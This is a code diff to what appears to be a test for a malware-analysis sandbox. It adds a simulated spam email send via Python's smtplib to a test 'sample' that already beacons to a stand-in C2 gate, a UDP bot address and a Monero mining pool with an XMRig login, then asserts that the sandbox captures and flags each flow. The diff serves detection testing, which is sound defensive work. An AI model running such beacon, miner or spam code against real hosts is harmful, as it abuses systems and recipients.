@@ -102,6 +102,9 @@ try: socket.create_connection(('gulf.moneroocean.stream', 443), timeout=3)
 except OSError as e: print('connect:', e)
 s = socket.create_connection(('203.0.113.7', 5000), timeout=3)
 socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'HELLO bot-7', ('203.0.113.9', 7000))
+import smtplib
+try: smtplib.SMTP('mx.example.test', 25, timeout=5).sendmail('promo@shop.example.test', ['victim@example.test'], 'Subject: You won\\r\\n\\r\\nclick')
+except Exception as e: print('smtp:', e)
 s.sendall(b'{\\"id\\":1,\\"jsonrpc\\":\\"2.0\\",\\"method\\":\\"login\\",\\"params\\":{\\"login\\":\\"4AbC\\",\\"pass\\":\\"x\\",\\"agent\\":\\"XMRig/6.21.0\\"}}\\n')
 s.close()
 print('gate:', urllib.request.urlopen('http://c2.example.test/gate.php?id=1', timeout=5).status)
@@ -136,6 +139,10 @@ print('gate:', urllib.request.urlopen('http://c2.example.test/gate.php?id=1', ti
     assert.deepEqual(secure && [secure.protocol, secure.domain, secure.port, secure.http?.method, secure.http?.path, secure.http?.userAgent, secure.decrypted !== undefined], ['tls', 'secure.example.test', 443, 'POST', '/api/beacon', 'implant/2.1', true], JSON.stringify(r.sessions));
     // a datagram to a hard-coded address: caught as a UDP flow with its first bytes
     assert.deepEqual(r.sessions?.filter((c) => c.transport === 'udp').map((c) => [c.address, c.port, c.protocol, c.preview]), [['203.0.113.9', 7000, 'other', 'HELLO bot-7']], JSON.stringify(r.sessions));
+    // a mail sent with python's smtplib: greeted as a mail server, led through the message, judged
+    const mail = r.sessions?.find((c) => c.protocol === 'smtp');
+    assert.deepEqual(mail && [mail.domain, mail.port, mail.smtp], ['mx.example.test', 25, { helo: mail?.smtp?.helo ?? '', from: 'promo@shop.example.test', to: ['victim@example.test'], recipients: 1, subject: 'You won' }], JSON.stringify(r.sessions));
+    assert.match(r.findings.find((f) => f.rule === 'ST-C2-016')?.output ?? '', /from=promo@shop\.example\.test to=victim@example\.test recipients=1 subject=You won .*process=python3\)$/);
     const checked = tls('checked.example.test');
     assert.deepEqual(checked && [checked.protocol, checked.http, checked.decrypted], ['tls', undefined, undefined], JSON.stringify(r.sessions));
     assert.match(r.findings.find((f) => f.rule === 'ST-EXF-002')?.output ?? '', /host=secure\.example\.test uri=\/api\/beacon user_agent=implant\/2\.1 protocol=tls .*process=curl\)$/);
@@ -149,8 +156,9 @@ print('gate:', urllib.request.urlopen('http://c2.example.test/gate.php?id=1', ti
     assert.equal(replayed.code, 0, replayed.stderr);
     const again = JSON.parse(readFileSync(join(t.path, 'replayed', 'report.json'), 'utf8')) as Report;
     assert.deepEqual([again.dns, again.sessions, again.network, again.findings.map((f) => [f.rule, f.output])], [r.dns, r.sessions, r.network, r.findings.map((f) => [f.rule, f.output])]);
-    assert.match(html, /Connections caught in the sandbox \(6\)[\s\S]*GET \/gate\.php\?id=1/);
+    assert.match(html, /Connections caught in the sandbox \(7\)[\s\S]*GET \/gate\.php\?id=1/);
     assert.match(html, /POST \/api\/beacon · Host: secure\.example\.test · User-Agent: implant\/2\.1<\/span><div class="muted small">server name secure\.example\.test · decrypted \(the sample accepted the sandbox's certificate\)<\/div><\/td><td>\d+ <span class="muted small">\(\d+ in the clear\)/);
+    assert.match(html, /<td>smtp<\/td><td><span class="argv">mail from promo@shop\.example\.test to victim@example\.test · Subject: You won · HELO /);
     assert.match(html, /server name checked\.example\.test<\/span><div class="muted small">refused the sandbox's certificate: nothing decrypted/);
   } finally {
     t.cleanup();
